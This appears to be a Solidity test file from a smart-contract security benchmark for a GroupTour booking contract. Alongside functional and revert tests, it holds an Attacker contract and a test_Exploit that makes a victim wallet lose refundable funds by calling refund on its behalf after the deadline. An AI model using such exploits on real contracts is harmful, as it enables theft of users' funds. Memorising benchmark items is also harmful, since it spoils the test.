pragma solidity 0.4.26;

import "./GroupTour.sol";

// assay-canary-8b7aeecc-2d18-4a44-85af-5c1b3678ad03

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A wallet of several owners that counts what comes in.
contract Wallet {
    address private keeper = msg.sender;
    uint public arrivals;
    uint public received;

    function () external payable {
        arrivals += 1;
        received += msg.value;
    }

    function book(GroupTour tour, uint count) external {
        require(msg.sender == keeper);
        tour.book.value(count * tour.seatPrice())(count);
    }

    function back(GroupTour tour, address to) external {
        require(msg.sender == keeper);
        tour.refundTo(to);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint private constant START = 1700000000;

    GroupTour private tour;
    Wallet private wallet;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        tour = new GroupTour(2 ether, 5, 30);
        wallet = new Wallet();
        vm.deal(address(wallet), 6 ether);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        wallet.book(tour, 3);
        vm.prank(ANA);
        tour.book.value(2 ether)(1);
        mallory = new Attacker(tour);
    }

    function () external payable {}

    // What the wallet has or can still get back.
    function withinReach() public view returns (uint) {
        return tour.paid(address(wallet)) + address(wallet).balance;
    }

    function test_Regular() public {
        vm.prank(BEN);
        tour.book.value(4 ether)(2);
        require(tour.booked() == 6 && tour.paid(BEN) == 4 ether);
        vm.warp(START + 30 days);
        uint before = address(this).balance;
        tour.collect();
        require(address(this).balance == before + 12 ether && tour.collected() && !tour.off());

        GroupTour second = new GroupTour(1 ether, 9, 10);
        vm.deal(address(wallet), 2 ether);
        wallet.book(second, 2);
        vm.prank(ANA);
        second.book.value(3 ether)(3);
        vm.prank(BEN);
        second.book.value(1 ether)(1);
        require(!second.off());
        vm.warp(START + 40 days);
        require(second.off());
        second.callOff();
        second.refund(ANA);
        require(ANA.balance == 18 ether && second.paid(ANA) == 0);
        wallet.back(second, CAT);
        require(CAT.balance == 2 ether);
        vm.prank(BEN);
        second.refundTo(BEN);
        require(BEN.balance == 16 ether && address(second).balance == 0);

        GroupTour third = new GroupTour(1 ether, 1, 10);
        vm.prank(ANA);
        third.book.value(1 ether)(1);
        vm.warp(START + 80 days);
        third.refund(ANA);
        require(ANA.balance == 18 ether);
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert();
        tour.callOff();
        vm.prank(BEN);
        tour.book.value(2 ether)(1);
        vm.warp(START + 30 days);
        vm.prank(ANA);
        vm.expectRevert();
        tour.collect();
    }

    function test_RefusesOpenings() public {
        vm.expectRevert();
        new GroupTour(0, 5, 30);
        vm.expectRevert();
        new GroupTour(1, 0, 30);
        vm.expectRevert();
        new GroupTour(1, 5, 0);
        vm.expectRevert();
        new GroupTour(1, 5, 366);
    }

    function test_RefusesBookings() public {
        vm.startPrank(ANA);
        vm.expectRevert();
        tour.book.value(0)(0);
        vm.expectRevert();
        tour.book.value(1 ether)(1);
        vm.stopPrank();
        vm.deal(ANA, 42 ether);
        vm.prank(ANA);
        vm.expectRevert();
        tour.book.value(42 ether)(21);
        vm.warp(START + 30 days);
        vm.prank(ANA);
        vm.expectRevert();
        tour.book.value(2 ether)(1);
    }

    function test_RefusesWhenOff() public {
        tour.callOff();
        vm.prank(ANA);
        vm.expectRevert();
        tour.book.value(2 ether)(1);
        vm.prank(BEN);
        tour.refund(ANA);
        vm.expectRevert();
        tour.refund(ANA);
        vm.prank(ANA);
        vm.expectRevert();
        tour.refundTo(ANA);
    }

    function test_RefusesNobody() public {
        tour.callOff();
        vm.prank(ANA);
        vm.expectRevert();
        tour.refundTo(address(0));
    }

    function test_RefusesWhileOn() public {
        vm.expectRevert();
        tour.refund(ANA);
        vm.expectRevert();
        tour.collect();
        vm.warp(START + 30 days);
        vm.expectRevert();
        tour.collect();
    }

    function test_RefusesEarlyCollection() public {
        vm.prank(BEN);
        tour.book.value(2 ether)(1);
        vm.warp(START + 30 days - 1);
        vm.expectRevert();
        tour.collect();
        vm.warp(START + 30 days);
        vm.expectRevert();
        tour.refund(ANA);
        tour.collect();
        vm.expectRevert();
        tour.collect();
        vm.expectRevert();
        tour.callOff();
        vm.warp(START + 90 days);
        vm.expectRevert();
        tour.refund(ANA);
    }

    function exploit() public {
        vm.warp(START + 30 days);
        mallory.run(address(wallet));
    }

    function test_Exploit() public {
        uint before = withinReach();
        exploit();
        require(withinReach() + 6 ether <= before);
    }

    function target() public view returns (address) {
        return address(tour);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    GroupTour private tour;

    constructor(GroupTour _tour) public {
        tour = _tour;
    }

    function run(address traveler) external {
        tour.refund(traveler);
    }
}
